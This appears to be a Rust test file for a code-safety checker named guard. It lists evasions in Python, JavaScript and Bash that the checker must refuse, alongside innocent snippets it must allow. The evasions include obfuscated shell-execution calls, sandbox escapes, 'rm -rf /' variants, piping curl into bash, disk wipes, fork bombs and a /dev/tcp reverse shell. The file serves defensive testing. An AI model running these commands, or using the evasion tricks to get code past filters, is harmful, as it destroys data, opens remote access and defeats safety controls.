//! Evasions that guard must refuse, and innocent programs that it must not.

mod table;

use policy::{Language, Options, Report, check};
use types::Policy;

use Language::{Bash, JavaScript, Python, TypeScript};

/// Refused under guard, each by this rule among others.
const EVASIONS: &[(Language, &str, &str)] = &[
    // Python: names.
    (Python, "python.process.start", "from os import system as s\ns('id')"),
    (Python, "python.process.start", "import  os\nos . system('id')"),
    (Python, "python.process.start", "import json, os as j\nj.system('id')"),
    (Python, "python.process.start", "import os\nrun = os.system\nrun('id')"),
    (Python, "python.process.start", "import os\na = b = c = os\nc.popen('id')"),
    (Python, "python.process.start", "import os\n(x, (y, z)) = (1, (2, os))\nz.system('id')"),
    (Python, "python.process.start", "import os\n[m] = [os]\nm.system('id')"),
    (Python, "python.process.start", "import os\nm = os if True else None\nm.system('id')"),
    (Python, "python.process.start", "import os\nm = None or os\nm.system('id')"),
    (Python, "python.process.start", "import os\nif (m := os):\n    m.system('id')"),
    (Python, "python.process.start", "import os\nclass A:\n    m = os\nA.m.system('id')"),
    (
        Python,
        "python.process.start",
        "import os\nclass A:\n    def __init__(self):\n        self.m = os\n    def go(self):\n        self.m.system('id')",
    ),
    (Python, "python.process.start", "import os\nd = {'m': os}\nd['m'].system('id')"),
    (Python, "python.process.start", "import os\nfor m in (os,):\n    m.system('id')"),
    (Python, "python.process.start", "import os\n[m.system('id') for m in [os]]"),
    (Python, "python.process.start", "import os\ndef f(m=os):\n    m.system('id')"),
    (Python, "python.process.start", "import os\n(lambda m=os: m.system('id'))()"),
    (Python, "python.process.start", "def f():\n    o.system('id')\nimport os as o"),
    (Python, "python.process.start", "def f():\n    import os as o\n    def g():\n        o.system('id')\n    g()"),
    (Python, "python.process.start", "from os import *\nsystem('id')"),
    (Python, "python.process.start", "try:\n    import os as o\nexcept ImportError:\n    o = None\no.system('id')"),
    (Python, "python.process.start", "import os\nwith x as y, os as z:\n    z.system('id')"),
    (Python, "python.process.start", "import os\nprint(f'{os.system(\"id\")}')"),
    (
        Python,
        "python.process.start",
        "import os\nglobal_name = 1\ndef f():\n    global m\n    m = os\n    m.system('id')",
    ),
    (Python, "python.process.start", "import subprocess as sp\nsp.check_output(['id'])"),
    (Python, "python.process.start", "from subprocess import Popen\nPopen('id', shell=True)"),
    (Python, "python.process.start", "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('id'))"),
    (Python, "python.process.start", "import pty\npty.spawn('/bin/sh')"),
    (Python, "python.process.start", "from posix import system\nsystem('id')"),
    (Python, "python.process.start", "import functools, os\nfunctools.partial(os.system, 'id')()"),
    (Python, "python.process.start", "import os\nlist(map(os.system, ['id']))"),
    // Python: attributes by text.
    (Python, "python.process.start", "import os\ngetattr(os, 'system')('id')"),
    (Python, "python.process.start", "import os\ngetattr(os, 'sys' + 'tem')('id')"),
    (Python, "python.process.start", "import os\ngetattr(os, ''.join(['sys', 'tem']))('id')"),
    (Python, "python.process.start", "import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('id')"),
    (Python, "python.process.start", "import os\ngetattr(os, '{}{}'.format('sys', 'tem'))('id')"),
    (Python, "python.process.start", "import os\ngetattr(os, '{1}{0}'.format('tem', 'sys'))('id')"),
    (Python, "python.process.start", "import os\na = 'sys'\ngetattr(os, f'{a}tem')('id')"),
    (Python, "python.process.start", "import os\ngetattr(os, 'metsys'[::-1])('id')"),
    (Python, "python.process.start", "import os\ngetattr(os, 'SYSTEM'.lower())('id')"),
    (Python, "python.process.start", "import os\ngetattr(os, 's_y_s_t_e_m'.replace('_', ''))('id')"),
    (Python, "python.process.start", "import os\ngetattr(os, chr(115) + 'ystem')('id')"),
    (Python, "python.process.start", "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('id')"),
    (Python, "python.process.start", "import os\ngetattr(os, bytes([115, 121, 115, 116, 101, 109]).decode())('id')"),
    (Python, "python.process.start", "import os\ngetattr(os, bytes.fromhex('73797374656d').decode())('id')"),
    (Python, "python.process.start", "import os\ngetattr(os, b'system'.decode())('id')"),
    (Python, "python.process.start", "import os\ngetattr(os, 'x system y'.split()[1])('id')"),
    (Python, "python.process.start", "import os\nn = 'sys'\nn += 'tem'\ngetattr(os, n)('id')"),
    (Python, "python.process.start", "import os\ng = getattr\ng(os, 'system')('id')"),
    (Python, "python.process.start", "import os\nos.__dict__['system']('id')"),
    (Python, "python.process.start", "import os\nvars(os)['system']('id')"),
    (Python, "python.process.start", "import os\nvars(os).get('system')('id')"),
    (Python, "python.process.start", "import os\nos.__getattribute__('system')('id')"),
    (Python, "python.process.start", "import os\nobject.__getattribute__(os, 'system')('id')"),
    (Python, "python.process.start", "import os, operator\noperator.attrgetter('system')(os)('id')"),
    (Python, "python.process.start", "import pkgutil\npkgutil.resolve_name('os:system')('id')"),
    // Python: modules by other ways.
    (Python, "python.process.start", "import random\nrandom._os.system('id')"),
    (Python, "python.process.start", "import tempfile as t\nt._os.popen('id')"),
    (Python, "python.process.start", "import logging\nlogging.os.system('id')"),
    (Python, "python.process.start", "from shutil import os as o\no.system('id')"),
    (Python, "python.process.start", "import sys\nsys.modules['os'].system('id')"),
    (Python, "python.process.start", "from sys import modules as m\nm.get('os').system('id')"),
    (Python, "python.process.start", "import importlib\nimportlib.import_module('os').system('id')"),
    (Python, "python.process.start", "from importlib import import_module as i\ni('o' + 's').system('id')"),
    (Python, "python.builtin.import", "__import__('os').system('id')"),
    (Python, "python.builtin.import", "__builtins__.__import__('os')"),
    (Python, "python.builtin.import", "getattr(__builtins__, '__imp' + 'ort__')('os')"),
    (Python, "python.process.start", "i = __import__\nm = i('os')\nm.system('id')"),
    (Python, "python.process.start", "(lambda: 0).__globals__['os'].system('id')"),
    // Python: builtins.
    (Python, "python.builtin.eval", "e = eval\ne('1')"),
    (Python, "python.builtin.eval", "__builtins__['eval']('1')"),
    (Python, "python.builtin.eval", "__builtins__.eval('1')"),
    (Python, "python.builtin.eval", "globals()['__builtins__']['eval']('1')"),
    (Python, "python.builtin.eval", "globals()['__builtins__'].eval('1')"),
    (Python, "python.builtin.exec", "import builtins\nvars(builtins)['exec']('1')"),
    (Python, "python.builtin.exec", "import builtins as b\ngetattr(b, 'ex' 'ec')('1')"),
    (Python, "python.builtin.exec", "from builtins import exec as run\nrun('1')"),
    (Python, "python.builtin.eval", "print.__self__.eval('1')"),
    (Python, "python.builtin.eval", "f.__globals__['__builtins__']['eval']('1')"),
    (Python, "python.builtin.eval", "𝓮𝓿𝓪𝓵('1')"),
    (Python, "python.builtin.eval", "@eval\n@input\nclass A: pass"),
    (Python, "python.builtin.eval", "if 0:\n    eval = None\neval('1')"),
    (Python, "python.builtin.eval", "class A:\n    eval = 1\n    def f(self):\n        return eval('1')"),
    (Python, "python.builtin.compile", "(compile)('1', '', 'eval')"),
    (Python, "python.builtin.exec", "[exec][0]('1')"),
    (Python, "python.code.object", "import types as t\nt.FunctionType(code, {})()"),
    (Python, "python.introspection.subclasses", "().__class__.__base__.__subclasses__()"),
    (Python, "python.introspection.subclasses", "c = ''.__class__\nb = c.__mro__[-1]\nb.__subclasses__()"),
    (Python, "python.introspection.subclasses", "getattr(getattr((), '__class__').__base__, '__subclasses__')()"),
    (Python, "python.source.encoding", "# coding: utf-7\n# +AAo-import os"),
    // Python: files, loops, texts.
    (Python, "python.file.remove_tree", "from shutil import rmtree as r\nr('/')"),
    (Python, "python.file.system_write", "open('/etc/' + 'passwd', 'w')"),
    (Python, "python.file.system_write", "o = open\no('/root/.bashrc', mode='a')"),
    (Python, "python.process.fork_loop", "from os import fork as f\nwhile 1:\n    f()"),
    (Python, "python.text.destructive", "c = 'rm ' + '-rf ' + '/'"),
    (Python, "python.text.destructive", "c = ' '.join(('rm', '-rf', '~'))"),
    (Python, "python.text.destructive", "c = b'rm -rf /'"),
    (Python, "python.loop.endless", "import socket, subprocess\nsocket.socket()\nimport ctypes\nwhile True: pass"),
    // JavaScript.
    (JavaScript, "javascript.process.start", "const { exec: e } = require('child_process'); e('id')"),
    (JavaScript, "javascript.process.start", "import { execSync as x } from 'node:child_process'; x('id')"),
    (JavaScript, "javascript.process.start", "import * as c from 'child_process'; c.spawn('id')"),
    (JavaScript, "javascript.process.start", "import c from 'child_process'; c.default.spawn('id')"),
    (JavaScript, "javascript.process.start", "require('child' + '_process')['ex' + 'ec']('id')"),
    (JavaScript, "javascript.process.start", "require(`child_${'process'}`).exec('id')"),
    (JavaScript, "javascript.process.start", "require(['child', 'process'].join('_')).exec('id')"),
    (
        JavaScript,
        "javascript.process.start",
        "const r = require; const c = r('child_process'); const f = c.exec; f('id')",
    ),
    (JavaScript, "javascript.process.start", "let c; c = require('child_process'); c.exec('id')"),
    (JavaScript, "javascript.process.start", "let e; ({ exec: e } = require('child_process')); e('id')"),
    (JavaScript, "javascript.process.start", "process.mainModule.require('child_process').exec('id')"),
    (JavaScript, "javascript.process.start", "module.require('child_process').exec('id')"),
    (JavaScript, "javascript.process.start", "globalThis.process.mainModule.require('child_process').exec('id')"),
    (
        JavaScript,
        "javascript.process.start",
        "import('child_process').then(c => c); (await import('child_process')).exec('id')",
    ),
    (JavaScript, "javascript.process.start", "Reflect.get(require('child_process'), 'exec')('id')"),
    (JavaScript, "javascript.process.start", "require('child_process').exec.call(null, 'id')"),
    (JavaScript, "javascript.process.start", "(0, require('child_process').exec)('id')"),
    (JavaScript, "javascript.process.start", "require('child_process')?.['exec']?.('id')"),
    (JavaScript, "javascript.process.start", "process.getBuiltinModule('child_process').execSync('id')"),
    (JavaScript, "javascript.process.start", "process.binding('spawn_sync')"),
    (JavaScript, "javascript.process.start", "function f() { c.exec('id') }\nconst c = require('child_process');\nf()"),
    (JavaScript, "javascript.process.start", "const o = {}; o.c = require('child_process'); o.c.exec('id')"),
    (JavaScript, "javascript.process.start", "const [c] = [require('child_process')]; c.exec('id')"),
    (JavaScript, "javascript.process.start", "const c = require('child_process') || null; c.exec('id')"),
    (JavaScript, "javascript.process.start", "require('child_process')[String.fromCharCode(101, 120, 101, 99)]('id')"),
    (JavaScript, "javascript.eval", "(0, eval)('1')"),
    (JavaScript, "javascript.eval", "globalThis['ev' + 'al']('1')"),
    (JavaScript, "javascript.eval", "const { eval: e } = globalThis; e('1')"),
    (JavaScript, "javascript.eval", "{ const eval = 1 } eval('1')"),
    (JavaScript, "javascript.function", "new Function('return process')()"),
    (JavaScript, "javascript.function", "(() => {}).constructor('return process')()"),
    (JavaScript, "javascript.function", "(async function () {}).constructor('x')()"),
    (JavaScript, "javascript.function", "[].constructor.constructor('return this')()"),
    (JavaScript, "javascript.code.text", "''.sub.constructor('return process')()"),
    (JavaScript, "javascript.code.text", "setTimeout('x()', 1)"),
    (
        JavaScript,
        "javascript.file.remove_tree",
        "const { promises: p } = require('fs'); p.rm('/', { recursive: true })",
    ),
    (JavaScript, "javascript.file.remove_tree", "import { rmSync as r } from 'fs'; r('/')"),
    (JavaScript, "javascript.text.destructive", "const c = `rm ${'-rf'} /`"),
    (TypeScript, "javascript.process.start", "import { exec } from 'child_process'; (exec as any)('id')"),
    (TypeScript, "javascript.process.start", "import cp = require('child_process'); cp.exec('id')"),
    (TypeScript, "javascript.process.start", "const c: any = require('child_process')!; c.exec('id')"),
    // Shell.
    (Bash, "bash.remove.root", "r''m -rf /"),
    (Bash, "bash.remove.root", "\\rm -rf /"),
    (Bash, "bash.remove.root", "/bin/rm -r -f -- /"),
    (Bash, "bash.remove.root", "a=rm; b=-rf; $a $b /"),
    (Bash, "bash.remove.root", "c='rm -rf /'; $c"),
    (Bash, "bash.remove.root", "{rm,-rf,/}"),
    (Bash, "bash.remove.root", "$'\\162\\155' -rf /"),
    (Bash, "bash.remove.root", "$(printf rm) -rf /"),
    (Bash, "bash.remove.root", "`echo rm` -rf /"),
    (Bash, "bash.remove.root", "sudo -u root env X=1 nice -n 5 rm -rf /"),
    (Bash, "bash.remove.root", "bash -c \"bash -c 'rm -rf /'\""),
    (Bash, "bash.remove.root", "eval 'r''m -rf /'"),
    (Bash, "bash.remove.root", "bash <<< 'rm -rf /'"),
    (Bash, "bash.remove.root", "bash <<'E'\nrm -rf /\nE"),
    (Bash, "bash.remove.root", "echo \"${x:-$(rm -rf /)}\""),
    (Bash, "bash.remove.root", "cat <<E\n$(rm -rf /)\nE"),
    (Bash, "bash.remove.root", "case x in *) rm -rf /* ;; esac"),
    (Bash, "bash.remove.root", "trap 'rm -rf /' EXIT"),
    (Bash, "bash.remove.root", "find / -type f -delete"),
    (Bash, "bash.remove.root", "f() { rm -rf ~; }; f"),
    (Bash, "bash.pipe.shell", "curl -s http://x | sudo bash"),
    (Bash, "bash.pipe.shell", "echo cm0K | base64 -d | sh"),
    (Bash, "bash.pipe.shell", "wget -qO- x | tee log | zsh -s -- a"),
    (Bash, "bash.pipe.shell", "curl x | python3 -"),
    (Bash, "bash.disk.device", "dd if=/dev/urandom of=/dev/sda"),
    (Bash, "bash.disk.device", "cat x >| /dev/sda"),
    (Bash, "bash.disk.format", "/sbin/mkfs.xfs /dev/sdb"),
    (Bash, "bash.process.fork_bomb", ":(){ :|:& };:"),
    (Bash, "bash.process.fork_bomb", "b() { b | b & }; b"),
    (Bash, "bash.network.device", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"),
    (Bash, "bash.file.system_write", "echo x >> /etc/cron.d/x"),
    (Bash, "bash.network.connect", "eval \"$(cat y)\"; nc -l 1; while :; do x; done"),
];

/// Not refused under guard.
const INNOCENTS: &[(Language, &str)] = &[
    (Python, "import re\nre.compile('a+').match('aa')"),
    (Python, "from re import compile\ncompile('x')"),
    (Python, "model.eval()\nmodel.train()"),
    (Python, "df.eval('a + b')\ndf.query('a > 1')"),
    (Python, "b''.decode()\nb'a'.decode('utf-8')\nx.decode()\ny.decode()\nz.decode()"),
    (Python, "# eval( and exec( and os.system( in a comment\nprint(1)"),
    (Python, "s = 'eval(x) exec(y) __import__(z) os.system(w)'"),
    (Python, "def f():\n    \"\"\"Never call eval( or rm -rf / here.\"\"\"\n    return 1"),
    (Python, "import threading\nthreading.Thread(target=f).start()"),
    (Python, "from concurrent.futures import ThreadPoolExecutor, ProcessPoolExecutor"),
    (Python, "import ast\nast.literal_eval('[1]')"),
    (Python, "websocket.send('x')\nempty.x\nreopen('w')\nretrieval('x')"),
    (Python, "import platform\nplatform.system()"),
    (Python, "import os\nos.path.join('a', 'b')\nos.makedirs('x', exist_ok=True)\nos.listdir('.')"),
    (Python, "import os\nos.environ.get('HOME')\nos.environ['A']\nos.getenv('B')\nos.environ['C']\nos.getenv('D')"),
    (Python, "items = [1, 2]\nitems.remove(1)"),
    (Python, "with open('out.txt', 'w') as f:\n    f.write('x')"),
    (Python, "for i in range(10):\n    with open(f'{i}.txt', 'w') as f:\n        f.write('x')"),
    (Python, "import base64\nfor x in y:\n    base64.b64decode(x)\nbase64.b64decode('YQ==')\nbase64.b64decode('Yg==')"),
    (Python, "while True:\n    line = input()\n    if not line:\n        break"),
    (Python, "def g():\n    while True:\n        yield 1"),
    (Python, "for i in range(5_000_000):\n    pass"),
    (Python, "x = [0] * 1_000_000"),
    (Python, "class Base: pass\nfor c in Base.__subclasses__():\n    print(c.__name__)"),
    (Python, "class A:\n    def __repr__(self):\n        return f'{self.__class__.__name__}({self.__dict__})'"),
    (Python, "import numpy as np\nnp.random.rand(3)\nnp.linalg.eig(x)"),
    (Python, "import scipy.signal\nscipy.signal.convolve(a, b)"),
    (Python, "import requests\nrequests.get('https://example.com').json()"),
    (Python, "import socket\ns = socket.socket()\ns.connect(('localhost', 80))"),
    (Python, "import urllib.parse\nurllib.parse.quote('a b')"),
    (Python, "import multiprocessing\nwith multiprocessing.Pool() as p:\n    p.map(f, x)"),
    (Python, "import subprocess  # for the constant only\nprint(subprocess.PIPE)"),
    (Python, "import json, pickle\npickle.dumps(x)\npickle.loads(y)"),
    (Python, "getattr(self, name)\nsetattr(self, name, 1)\ngetattr(math, 'pi')"),
    (Python, "import importlib\nimportlib.import_module('json')"),
    (Python, "def compile(source):\n    return source\ncompile('x')"),
    (Python, "class Parser:\n    def eval(self, x):\n        return self.eval(x)\n    def exec(self): pass"),
    (Python, "def run(exec, eval):\n    return exec(eval)"),
    (Python, "cursor.execute('select 1')\nexecutor.submit(f)"),
    (Python, "import os\nos.remove('tmp.txt')"),
    (Python, "print('rm -rf / is dangerous')"),
    (Python, "cmd = 'rm -rf ./build'"),
    (Python, "p = '../../data/x.csv'"),
    (Python, "import asyncio\nasync def main():\n    while True:\n        await asyncio.sleep(1)\nasyncio.run(main())"),
    (Python, "match command:\n    case 'go':\n        pass"),
    (Python, "import sys\nsys.setrecursionlimit(10000)\nsys.stdin.read()\nsys.exit(0)"),
    (Python, "from dataclasses import dataclass\n@dataclass\nclass P:\n    x: 'int' = 0"),
    (Python, "import itertools\nfor i in itertools.count():\n    if i > 5:\n        break"),
    (Python, "x = 2 ** 1000\ny = 10 ** 9 + 7"),
    (Python, "import torch\nmodel = torch.nn.Linear(1, 1)\nmodel.eval()\ntorch.compile(model)"),
    (Python, "from pathlib import Path\nPath('a').write_text('x')\nPath('b').mkdir()"),
    (Python, "type(x).__name__\nx.__doc__\nf.__name__\nm.__file__\nx.__len__()"),
    (Python, "import inspect\ninspect.signature(f)"),
    (Python, "n = int(input())\nprint(sum(map(int, input().split())))"),
    (Python, "import signal\nsignal.signal(signal.SIGALRM, handler)"),
    (Python, "import tempfile\nwith tempfile.TemporaryDirectory() as d:\n    pass"),
    (Python, "open('/etc/hosts').read()"),
    (Python, "# -*- coding: utf-8 -*-\nprint('ü')"),
    (JavaScript, "/a(b)c/.exec('abc')"),
    (JavaScript, "const m = regex.exec(text); db.exec('select 1')"),
    (JavaScript, "model.eval(); retrieval('x')"),
    (JavaScript, "// eval('x') and new Function('y')\nconst s = \"eval('x')\""),
    (JavaScript, "setTimeout(() => console.log(1), 10); setInterval(tick, 1000)"),
    (JavaScript, "const fs = require('fs'); fs.readFileSync('x'); fs.writeFileSync('y', '')"),
    (JavaScript, "import path from 'node:path'; path.join('a', 'b')"),
    (JavaScript, "process.argv.slice(2); process.stdout.write('x'); process.exit(0)"),
    (JavaScript, "const port = process.env.PORT || 3000; const host = process.env.HOST"),
    (JavaScript, "fetch('https://example.com').then(r => r.json())"),
    (JavaScript, "class A { get [Symbol.toStringTag]() { return this.constructor.name } }"),
    (JavaScript, "while (true) { if (done()) break }"),
    (JavaScript, "function* g() { while (true) yield 1 }"),
    (JavaScript, "const { Worker } = require('worker_threads')"),
    (JavaScript, "const http = require('http'); http.createServer((q, s) => s.end()).listen(0)"),
    (JavaScript, "'='.repeat(80); new Array(1000).fill(0); Buffer.alloc(1024)"),
    (JavaScript, "const a = (b + c) / 2; const d = e++ / 2;"),
    (JavaScript, "obj[key] = value; arr[i]; map['a' + 'b']"),
    (JavaScript, "export default function f() { return 1 }"),
    (JavaScript, "const process = { env: {} }; process.env.X = 1"),
    (JavaScript, "async function f() { for (;;) { await g(); } }"),
    (JavaScript, "x = a ? b : c; y = `${a}/${b}`; z = /[/]/.test(x)"),
    (JavaScript, "const fs = require('fs'); fs.unlinkSync('tmp.txt')"),
    (TypeScript, "interface A<T> { x: keyof T }\nexport const f = <T,>(x: T): T => x;"),
    (TypeScript, "enum E { A, B }\nconst x = y as unknown as string;\nlet z = w!;"),
    (TypeScript, "import type { X } from './x'; const a: Array<Map<string, number>> = [];"),
    (Bash, "ls -l >/dev/null 2>&1"),
    (Bash, "command -v git > /dev/null || exit 1"),
    (Bash, "rsync -a a/ b/"),
    (Bash, "sync; func x; evaluate y"),
    (Bash, "# rm -rf /\necho ok"),
    (Bash, "echo 'rm -r is a command'"),
    (Bash, "rm -rf build dist *.egg-info"),
    (Bash, "rm -f \"$tmp\""),
    (Bash, "set -euo pipefail\ncd \"$(dirname \"$0\")\""),
    (Bash, "for f in *.txt; do wc -l \"$f\"; done"),
    (Bash, "while read -r line; do echo \"$line\"; done < file"),
    (Bash, "chmod +x run.sh && ./run.sh"),
    (Bash, "cat data.csv | sort | uniq -c | head"),
    (Bash, "echo '{}' | python3 -m json.tool"),
    (Bash, "python3 - <<'E'\nprint(1)\nE"),
    (Bash, "curl -fsS https://example.com -o out"),
    (Bash, "x=$(date +%s); echo $((x + 1))"),
    (Bash, "if [[ $a =~ ^[0-9]+$ ]]; then echo n; fi"),
    (Bash, "find . -name '*.py' -exec grep -l x {} +"),
    (Bash, "dd if=/dev/zero of=file bs=1M count=1"),
    (Bash, "export PATH=\"$HOME/bin:$PATH\"; env FOO=1 make"),
    (Bash, "trap 'rm -f \"$tmp\"' EXIT"),
    (Bash, "git clone x && cd x && make -j4 test"),
    (Bash, "kill \"$pid\"; wait \"$pid\" || true"),
    (Bash, "source venv/bin/activate; pip install -r requirements.txt"),
    (Bash, "while true; do sleep 1; [ -f x ] && break; done"),
    (Bash, "cat > script.sh <<'E'\necho hi\nE\nbash script.sh"),
    (Bash, "eval \"$(ssh-agent -s)\""),
];

fn evasions() -> impl Iterator<Item = &'static (Language, &'static str, &'static str)> {
    use table::{round, sight_bash, sight_javascript, sight_python};
    [
        EVASIONS,
        table::EVASIONS,
        round::EVASIONS,
        sight_python::EVASIONS,
        sight_javascript::EVASIONS,
        sight_bash::EVASIONS,
    ]
    .into_iter()
    .flatten()
}

fn innocents() -> impl Iterator<Item = &'static (Language, &'static str)> {
    use table::{round, sight_bash, sight_javascript, sight_python};
    [
        INNOCENTS,
        table::INNOCENTS,
        round::INNOCENTS,
        sight_python::INNOCENTS,
        sight_javascript::INNOCENTS,
        sight_bash::INNOCENTS,
    ]
    .into_iter()
    .flatten()
}

fn guard(code: &str, language: Language) -> Report {
    check(code.as_bytes(), language, &Options { policy: Policy::Guard, ..Options::default() })
}

#[test]
fn evasions_are_refused() {
    let mut missed = Vec::new();
    for (language, rule, code) in evasions() {
        let report = guard(code, *language);
        let found = report.findings.iter().any(|finding| finding.rule == *rule);
        if !found || report.refused_by.is_none() || report.syntax_error.is_some() {
            let rules: Vec<_> = report.findings.iter().map(|finding| finding.rule.clone()).collect();
            missed.push((code, rule, rules, report.syntax_error));
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn innocents_are_not_refused() {
    let mut wronged = Vec::new();
    for (language, code) in innocents() {
        let report = guard(code, *language);
        if report.refused_by.is_some() || report.syntax_error.is_some() {
            wronged.push((code, report.refused_by, report.points, report.syntax_error));
        }
    }
    assert!(wronged.is_empty(), "{wronged:#?}");
}

#[test]
fn the_document_counts_the_snippets() {
    let (evasions, innocents) = (evasions().count(), innocents().count());
    assert!(evasions + innocents >= 150);
    let document = include_str!("../../../docs/POLICY.md");
    let sentence =
        format!("{evasions} evasions that guard must refuse and {innocents} innocent programs that it must not");
    assert!(document.contains(&sentence), "docs/POLICY.md must say: {sentence}");
}
